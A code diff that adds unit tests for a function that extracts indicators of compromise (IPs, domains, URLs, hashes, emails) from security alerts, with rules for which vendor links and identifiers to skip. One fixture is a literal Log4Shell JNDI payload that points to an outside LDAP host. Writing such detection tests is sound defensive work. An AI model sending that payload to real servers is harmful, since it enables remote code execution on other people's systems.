@@ -11,7 +11,8 @@ describe('alertIocs', () => {
     const s3 = alertIocs(sample('s3-exfiltration-leaked-role-keys.json')).iocs.map(
       (ioc) => `${ioc.kind} ${ioc.value}`,
     );
-    expect(s3).toEqual(['ipv4 1.2.3.4', 'ipv4 169.254.169.254', 'domain s3.amazonaws.com']);
+    // `s3.amazonaws.com` is its `serviceName`: the API called, not a host the activity involves.
+    expect(s3).toEqual(['ipv4 1.2.3.4', 'ipv4 169.254.169.254']);
     const lsass = alertIocs(sample('lsass-dump-mkt01.json')).iocs.map((ioc) => `${ioc.kind} ${ioc.value}`);
     expect(lsass).toEqual(
       expect.arrayContaining([
@@ -63,5 +64,70 @@ describe('alertIocs', () => {
     let deep: unknown = '203.0.113.7';
     for (let depth = 0; depth < 20_000; depth += 1) deep = [deep];
     expect(alertIocs({ deep }).iocs).toEqual([{ kind: 'ipv4', value: '203.0.113.7' }]);
+  });
+
+  const found = (alert: unknown) => alertIocs(alert).iocs.map((ioc) => `${ioc.kind} ${ioc.value}`);
+
+  it("takes no link to the vendor's console, documentation or advice as a URL", () => {
+    const alert = {
+      AlertLink: 'https://security.microsoft.com/alerts/da711f85f1?tid=a59fc703',
+      externalUri:
+        'https://console.cloud.google.com/compute/instancesDetail/zones/us-central1-a/instances/web-01',
+      Description:
+        'Ransomware launched. Read https://technet.microsoft.com/en-us/sysinternals/bb963902.aspx first. It fetched https://paste.example.net/raw/x1',
+      remediation: 'See https://kb.vendor.example/harden for the steps',
+    };
+    expect(found(alert)).toEqual(['url https://paste.example.net/raw/x1']);
+  });
+
+  it('reads JSON held in a string as its fields: a device id is no hash, the assignee no identity', () => {
+    const alert = {
+      Entities: JSON.stringify([
+        {
+          Type: 'host',
+          MdatpDeviceId: 'e71d36e038408014b8fe351202c5af7d0d1e4740',
+          FQDN: 'win11u.contoso.com',
+        },
+        { Type: 'file', Algorithm: 'SHA1', Value: '2c1b3e8d9f0a7b6c5d4e3f2a1b0c9d8e7f6a5b4c' },
+      ]),
+      ExtendedProperties: JSON.stringify({ AssignedTo: 'alex@contoso.onmicrosoft.com' }),
+    };
+    expect(found(alert)).toEqual([
+      'domain win11u.contoso.com',
+      'sha1 2c1b3e8d9f0a7b6c5d4e3f2a1b0c9d8e7f6a5b4c',
+    ]);
+  });
+
+  it("takes no message id as an address and no Okta dtHash or JA3 as a file's hash", () => {
+    const alert = {
+      internetMessageId: '<BY5PR.4f1e@mail.contoso.com>',
+      senderFromAddress: 'billing@invoices.example.net',
+      debugContext: {
+        debugData: { dtHash: '2b1c9f4e6a7d8c3b5e0f1a2d4c6b8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d' },
+      },
+      tls: { ja3: { hash: 'e7d705a3286e19ea42f587b344ee6865' } },
+      sha256: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
+    };
+    expect(found(alert)).toEqual([
+      'email billing@invoices.example.net',
+      'sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
+    ]);
+  });
+
+  it('takes ldap:// lookups as URLs (not their address again), private and upper-case host names', () => {
+    const alert = {
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, literally
+      ClientRequestUserAgent: '${jndi:ldap://167.99.36.212:1389/ua}',
+      privateDnsName: 'ip-10-0-0-1.ec2.internal',
+      note: 'seen from dc01.corp.local too',
+      host: 'MKT01.pandalab.com',
+      serviceName: 's3.amazonaws.com',
+    };
+    expect(found(alert)).toEqual([
+      'url ldap://167.99.36.212:1389/ua',
+      'domain ip-10-0-0-1.ec2.internal',
+      'domain dc01.corp.local',
+      'domain MKT01.pandalab.com',
+    ]);
   });
 });
